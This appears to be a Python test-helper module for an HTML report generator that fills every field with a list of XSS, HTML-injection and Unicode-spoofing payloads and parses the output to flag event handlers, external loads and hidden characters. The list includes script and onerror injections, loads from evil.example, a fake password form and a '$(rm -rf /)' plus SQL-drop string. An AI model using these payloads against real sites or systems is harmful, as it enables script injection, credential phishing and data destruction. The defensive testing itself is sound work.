"""What a report is made of, with one text in every field, and parsers for what comes out."""

from __future__ import annotations

import json
import re
from collections import Counter
from html.parser import HTMLParser
from typing import Any

from tiny_rows import picture
from vlmtune.data.conversation import Box
from vlmtune.evaluation.intervals import Difference, Estimate
from vlmtune.evaluation.report_content import Answers, ReportContent, ReportRow, Slice, Slicing

PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title><svg onload=alert(1)>",
    "</pre></div></section><h1>You won</h1>",
    "</td></tr></table><form action=https://evil.example><input name=password>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.png'>",
    "<svg/onload=alert(1)>",
    "<svg><use href=data:image/svg+xml;base64,PHN2Zz4= /></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=></object>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<a href='javascript:alert(1)'>x</a>",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<body onpageshow=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    '"><img src=x onerror=alert(1)>',
    "`onclick=alert(1)",
    "<!-- a comment that never ends",
    "--><b>x</b><!--",
    "<![CDATA[<b>x</b>]]>",
    "<?php echo 1 ?>",
    "&lt;b&gt; is not bold, &amp;amp; stays",
    "&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;",
    "&NewLine;&colon;&Tab;",
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "user\u202etxt.exe \u2066isolated\u2069",
    "zero\u200bwidth\ufeff and\u00adsoft",
    "bell\x07 escape\x1b[31m null\x00 delete\x7f next\x85",
    "lone \ud800 surrogate",
    "tagged \U000e0041\U000e0042",
    "line\u2028and\u2029paragraph\rreturn",
    "$(rm -rf /); '; DROP TABLE rows; --",
    "[x](javascript:alert(1)) ![x](https://evil.example/x.png)",
    "| a | b |\\| c |",
    "``` not the end of ````` a fence",
    "**bold** _slanted_ ~~gone~~ # title <https://evil.example>",
)

# Written down here once more, so that the code is not judged by itself.
HIDDEN = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\xad\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff]"
    "|[\ud800-\udfff\U000e0000-\U000e007f]"
)

SAME, BETTER = Difference(0.0, -0.1, 0.1, 0.5, 20), Difference(0.31, 0.25, 0.37, 1.0, 40)
LOW, HIGH = Estimate(0.411, 0.35, 0.47), Estimate(0.721, 0.66, 0.77)
IMAGE = picture((20, 30)).data


def filled(text: str) -> ReportContent:
    """A report with a text in every field that holds text, marked with the field's name."""
    return ReportContent(
        title=f"title {text}",
        recipe_yaml=f"recipe {text}",
        environment={
            f"environment key {text}": f"environment {text}",
            "packages": {f"nested key {text}": [f"listed {text}"]},
        },
        data={f"data key {text}": f"data {text}"},
        steps=[{"step": step, "loss": 1 / step, "learning_rate": 1e-4} for step in range(1, 9)],
        before={"edit_similarity": LOW},
        after={"edit_similarity": HIGH},
        differences={"edit_similarity": BETTER},
        history=[f"history {text}"],
        trainability=[
            {
                "part": f"part {text}",
                "parameters": 9,
                "trainable": 3,
                "gradient_norm": 1.0,
                "step": 1,
            }
        ],
        answers={
            "after": Answers(
                rows=2,
                cut=1,
                limit=9,
                remarks=[f"remark {text}"],
                confusion={
                    "classes": [f"class {text}", "other class"],
                    "cells": [[0, 0, 3], [0, 1, 2], [1, 2, 1]],
                },
            )
        },
        slicings=[
            Slicing(
                by=f"column {text}",
                slices=[Slice(name=f"slice {text}", rows=2, before=LOW, after=HIGH)],
                left_out=1,
            )
        ],
        rows=[
            ReportRow(
                id=f"id {text}",
                question=f"question {text}",
                truth=(f"truth {text}", f"second truth {text}"),
                before=f"before {text}",
                after=f"after {text}",
                score_before=0.25,
                score_after=0.5,
                true_boxes=[Box(0, f"true box {text}", (2.0, 2.0, 9.0, 9.0))],
                boxes_after=[Box(0, f"box {text}", (3.0, 3.0, 9.0, 12.0))],
                images=[IMAGE],
                pictures=1,
            ),
            ReportRow(
                id=f"without truth {text}",
                question=f"question {text}",
                truth=(),
                before=f"alone before {text}",
                after=f"alone after {text}",
                score_before=0.5,
                score_after=0.25,
                images=[IMAGE],
                pictures=3,
            ),
        ],
        ledger={"in": 6, f"kind {text}": 3, "dropped": {f"code {text}": 3}},
        totals={"seconds": 1749.0, "samples": 1200, f"total {text}": 1.0},
        reproduce=f"reproduce {text}",
        contract={f"contract key {text}": f"contract {text}"},
        base_model=f"org/{text}",
        method=f"method {text}",
        primary="edit_similarity",
    )


def expected_texts(text: str) -> list[str]:
    """What a reader of ``filled(text)``'s report must find as plain text."""
    fields = (
        "title",
        "recipe",
        "environment key",
        "environment",
        "data key",
        "data",
        "id",
        "question",
        "truth",
        "second truth",
        "alone before",
        "alone after",
        "kind",
        "reproduce",
        "contract key",
        "contract",
        "history",
        "part",
        "remark",
        "class",
        "column",
        "slice",
        "true box",
        "box",
    )
    listed = json.dumps([f"listed {text}"], ensure_ascii=False)
    found = [f"{field} {text}" for field in fields]
    return [*found, f"packages.nested key {text}", f"dropped: code {text}", listed]


class Page(HTMLParser):
    """Elements, attributes and text of a page."""

    def __init__(self, source: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.open: list[str] = []
        self.strangers: list[str] = []
        self.texts: list[tuple[str, str]] = []
        self.declarations: list[str] = []
        self.source = source
        self.feed(source)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))
        if tag not in ("meta", "img", "br", "hr"):
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.strangers.append(f"</{tag}> closes nothing")

    def handle_data(self, data: str) -> None:
        self.texts.append((self.open[-1] if self.open else "", data))

    def handle_comment(self, data: str) -> None:
        self.strangers.append(f"comment {data!r}")

    def handle_pi(self, data: str) -> None:
        self.strangers.append(f"instruction {data!r}")

    def unknown_decl(self, data: str) -> None:
        self.strangers.append(f"declaration {data!r}")

    def handle_decl(self, decl: str) -> None:
        self.declarations.append(decl)

    @property
    def text(self) -> str:
        """All text but the style sheet's."""
        return "".join(text for tag, text in self.texts if tag != "style")

    def of(self, tag: str, **attributes: str) -> list[dict[str, str | None]]:
        """Attributes of the elements of a kind."""
        return [
            found
            for name, found in self.elements
            if name == tag and attributes.items() <= found.items()
        ]

    def inside(self, tag: str) -> list[str]:
        """Texts directly inside the elements of a kind."""
        return [text for name, text in self.texts if name == tag]

    @property
    def shapes(self) -> Counter[tuple[str, ...]]:
        """How many elements there are of each kind, with the names of their attributes."""
        return Counter((tag, *attributes) for tag, attributes in self.elements)


def spelled(text: str) -> str:
    r"""A text as a report shows it: what would take effect unseen is spelled ``\\uXXXX``."""

    def name(found: re.Match[str]) -> str:
        code = ord(found[0])
        return f"\\u{code:04x}" if code < 0x10000 else f"\\U{code:08x}"

    return HIDDEN.sub(name, text)


def complaints(page: Page, harmless: Page, texts: list[str]) -> list[str]:
    """What is wrong with a page, compared with one whose fields hold a harmless word."""
    # Marked by the comparison of answers, and by what would be invisible.
    varying = {("ins", "title"), ("del", "title"), ("span", "class"), ("em", "class")}
    found = list(page.strangers)
    found += [f"{tag} stays open" for tag in page.open]
    shapes = {shape: count for shape, count in page.shapes.items() if shape not in varying}
    wanted = {shape: count for shape, count in harmless.shapes.items() if shape not in varying}
    found += [f"elements differ: {shapes.items() ^ wanted.items()}"] if shapes != wanted else []
    found += [f"character {character!a}" for character in HIDDEN.findall(page.source)]
    for tag, attributes in page.elements:
        found += [f"{tag} {name}" for name in attributes if name.startswith("on")]
        found += outside(tag, attributes)
    shown = page.text
    return found + [f"text {text!a} is not there" for text in texts if spelled(text) not in shown]


def outside(tag: str, attributes: dict[str, Any]) -> list[str]:
    """Attributes that lead out of the file."""
    found = []
    if tag != "image" and not str(attributes.get("href", "#")).startswith("#"):
        found.append(f"{tag} leads to {attributes['href']}")
    source = str(attributes.get("src", "data:image/png;base64,"))
    if tag == "image":  # of an SVG
        source = str(attributes["href"])
    if not source.startswith(("data:image/png;base64,", "data:image/jpeg;base64,")):
        found.append(f"{tag} loads {source[:40]}")
    loading = {"srcset", "srcdoc", "action", "formaction", "poster", "background", "xlink:href"}
    return found + [f"{tag} has {name}" for name in attributes.keys() & loading]
